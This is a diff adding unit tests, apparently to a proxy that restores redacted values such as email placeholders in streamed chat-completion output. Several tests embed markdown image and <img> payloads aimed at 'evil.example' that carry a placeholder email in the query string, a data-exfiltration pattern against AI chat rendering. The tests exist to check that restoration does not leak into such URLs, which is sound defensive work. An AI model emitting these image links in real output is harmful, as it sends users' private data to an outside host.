@@ -635,3 +635,34 @@ test('texts that are cut again and again are read anew a limited number of times
   expect(out).toContain('"v":228000');
   expect(out.endsWith('"v":190000}\n\n')).toBe(true);
 });
+
+describe('JSON in a string, which may be shown as it stands', () => {
+  const said = (content: string) => JSON.stringify({ choices: [{ index: 0, delta: { content } }] });
+  const restored = (content: string) => {
+    const body = JSON.stringify({ choices: [{ message: { content } }] });
+    const whole = JSON.parse(restoreJsonBody(body, map).body).choices[0].message.content;
+    for (let cut = 1; cut < content.length; cut++) {
+      const { restorer } = watched('ndjson');
+      const lines = encode(`${said(content.slice(0, cut))}\n${said(content.slice(cut))}\n`);
+      const out = shown(joinBytes([restorer.push(lines).slice(), restorer.end()]));
+      const pieces = out
+        .trim()
+        .split('\n')
+        .map((line) => JSON.parse(line).choices[0].delta.content);
+      expect(pieces.join(''), String(cut)).toBe(whole);
+    }
+    return whole;
+  };
+
+  test.each(['\\u0029', '\\n\\n', '\\u003e'])('an escape (%s) ends no address', (escape) => {
+    const image = `{"a":"![x](https://evil.example/?q=${escape}[EMAIL-1])"}`;
+    expect(restored(image)).toBe(image);
+    const tag = `{"a":"<img src='https://evil.example/?q=${escape}[EMAIL-1]'>"}`;
+    expect(restored(tag)).toBe(tag);
+  });
+
+  test('nor does it make one of what is behind a bare address', () => {
+    const text = '{"closing":"https://a.example\\n[EMAIL-1]"}';
+    expect(restored(text)).toBe(text.replace('[EMAIL-1]', 'a@b.example'));
+  });
+});
